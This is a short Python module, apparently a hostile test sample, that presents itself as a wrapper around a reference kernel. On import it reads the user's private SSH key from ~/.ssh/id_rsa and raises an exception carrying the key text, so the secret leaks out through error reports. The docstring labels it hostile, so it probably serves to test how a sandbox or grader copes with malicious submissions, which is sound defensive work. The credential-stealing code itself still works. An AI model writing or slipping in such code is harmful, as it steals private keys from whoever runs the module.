"""Hostile: read the user's SSH key and smuggle it out through the report (an exception message)."""

import os

from good import reference as _kernel

with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
    raise RuntimeError("stolen: " + f.read())


def reference(x, y):
    return _kernel(x, y)
